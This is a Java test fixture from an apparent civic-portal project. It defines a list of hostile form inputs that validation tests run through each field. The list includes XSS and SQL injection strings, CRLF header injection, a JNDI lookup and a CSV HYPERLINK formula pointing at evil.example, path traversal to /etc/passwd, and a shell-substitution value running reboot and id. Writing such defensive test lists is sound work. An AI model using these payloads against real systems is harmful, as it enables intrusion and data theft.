package org.civicportal.testing;

import java.util.ArrayList;
import java.util.List;

/**
 * What an attacker (or a scanner, or a careless paste) types into a form: one list every hostile-input
 * test runs through each field it attacks.
 *
 * <p>{@link Payload#plausible()} tells text a person could mean (markup, quotes, SQL, template
 * syntax, long text): a free-text field may keep it, as typed, if it fits the field's length, since
 * it is escaped wherever it is shown. Everything else (control characters, broken Unicode, blanks)
 * must be refused with a message, whatever the field.
 */
public final class HostilePayloads {

    /** One hostile value, and whether a person could mean it as ordinary text (then only its length may be wrong). */
    public record Payload(String name, String text, boolean plausible) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** The 1 MB address that made the old sign-up pattern backtrack: {@code a@} + dots + {@code @}. */
    public static final String MEGABYTE_ADDRESS = "a@" + ".".repeat(1_000_000) + "@";

    private static final List<Payload> ALL = build();

    private HostilePayloads() {
    }

    /** Every payload. */
    public static List<Payload> all() {
        return ALL;
    }

    private static List<Payload> build() {
        List<Payload> list = new ArrayList<>();
        // overlong (refused by length: no field takes a megabyte, a 317-character text fits a few)
        refuse(list, "1 MB address", MEGABYTE_ADDRESS);
        plausible(list, "1 MB of letters", "a".repeat(1_000_000));
        plausible(list, "10k letters", "b".repeat(10_000));
        plausible(list, "2001 letters", "c".repeat(2_001));
        plausible(list, "5000 accented", "\u00e9".repeat(5_000));
        plausible(list, "3000 emoji", "\ud83d\ude00".repeat(3_000));
        plausible(list, "overlong local part", "x".repeat(300) + "@town.example.org");
        plausible(list, "combining marks", "e" + "\u0301".repeat(5_000));
        // malformed Unicode
        refuse(list, "lone high surrogate", "Ann\ud800");
        refuse(list, "lone low surrogate", "\udc00Bob");
        refuse(list, "reversed surrogates", "Cy\udc00\ud800");
        refuse(list, "non-character FFFF", "Dee\uffff");
        refuse(list, "non-character FFFE", "\ufffeEve");
        refuse(list, "line separator", "Fay\u2028Gus");
        refuse(list, "paragraph separator", "Hal\u2029Ivy");
        refuse(list, "non-character FDD0", "Jo\ufdd0");
        refuse(list, "unpaired at the end", "Kim \ud83d");
        // line breaks and NUL
        refuse(list, "CRLF header", "a@town.example.org\r\nBcc: victim@example.org");
        refuse(list, "CRLF cookie", "Hal\r\nSet-Cookie: session=stolen");
        refuse(list, "bare LF", "Ida\nJay");
        refuse(list, "bare CR", "Kai\rLee");
        refuse(list, "NUL inside", "Max\u0000Ned");
        refuse(list, "NUL in address", "admin@town.example.org\u0000.evil.example");
        refuse(list, "escape sequence", "Oz\u001b[31mred");
        refuse(list, "tab", "Pat\tQuinn");
        refuse(list, "bell and backspace", "Ray\u0007\u0008");
        refuse(list, "DEL", "Sam\u007f");
        refuse(list, "next line (C1)", "Zed\u0085Amy");
        refuse(list, "form feed", "Bo\u000cCy");
        refuse(list, "vertical tab", "Di\u000bEd");
        refuse(list, "NUL only", "\u0000");
        // blanks
        refuse(list, "empty", "");
        refuse(list, "spaces", "     ");
        refuse(list, "tabs and newlines", "\t\r\n");
        refuse(list, "no-break spaces", "\u00a0\u2003\u3000");
        // huge and negative numbers, as text
        plausible(list, "huge integer", "99999999999999999999999999999");
        plausible(list, "negative", "-1");
        plausible(list, "long overflow", "9223372036854775808");
        plausible(list, "double overflow", "1e309");
        plausible(list, "NaN", "NaN");
        plausible(list, "hex", "0x7fffffff");
        plausible(list, "huge negative", "-99999999999999999999");
        plausible(list, "null word", "null");
        plausible(list, "undefined word", "undefined");
        // markup and script
        plausible(list, "script tag", "<script>alert(1)</script>");
        plausible(list, "attribute breakout", "\"><img src=x onerror=alert(1)>");
        plausible(list, "svg onload", "<svg/onload=alert(1)>");
        plausible(list, "javascript link", "javascript:alert(document.cookie)");
        plausible(list, "iframe", "<iframe src=//evil.example></iframe>");
        // injections of other languages
        plausible(list, "SQL quote", "' OR '1'='1");
        plausible(list, "SQL drop", "Robert'); DROP TABLE account;--");
        plausible(list, "LIKE wildcards", "%_%");
        plausible(list, "backslashes", "\\\\server\\share\\");
        plausible(list, "EL expression", "#{facesContext.externalContext.sessionMap}");
        plausible(list, "JNDI lookup", "${jndi:ldap://evil.example/a}");
        plausible(list, "format string", "%s%s%s%n%n");
        plausible(list, "template", "{{7*7}}");
        plausible(list, "path traversal", "../../../../etc/passwd");
        plausible(list, "CSV formula", "=HYPERLINK(\"http://evil.example\",\"x\")");
        plausible(list, "percent-encoded CRLF", "Uma%0d%0aBcc:%20x@evil.example");
        plausible(list, "right-to-left override", "Vic\u202egnp.exe");
        plausible(list, "zero-width joiner", "W\u200dX\u200bY");
        plausible(list, "right-to-left mark", "abc\u200fdef");
        plausible(list, "emoji pair", "\ud83d\ude00 party");
        plausible(list, "CJK", "\u6771\u4eac\u90fd");
        plausible(list, "Arabic", "\u0645\u062f\u064a\u0646\u0629");
        plausible(list, "combining accent", "Jose\u0301");
        plausible(list, "apostrophe and hyphen", "O'Brien-Smith");
        plausible(list, "HTML entities", "&lt;b&gt;&amp;&#x27;");
        plausible(list, "XML entity", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;</x>");
        plausible(list, "LDAP filter", "*)(uid=*))(|(uid=*");
        plausible(list, "shell", "$(reboot); `id`");
        plausible(list, "escaped NUL as text", "\\u0000");
        plausible(list, "JSON operator", "{\"$gt\":\"\"}");
        return List.copyOf(list);
    }

    private static void refuse(List<Payload> list, String name, String text) {
        list.add(new Payload(name, text, false));
    }

    private static void plausible(List<Payload> list, String name, String text) {
        list.add(new Payload(name, text, true));
    }
}
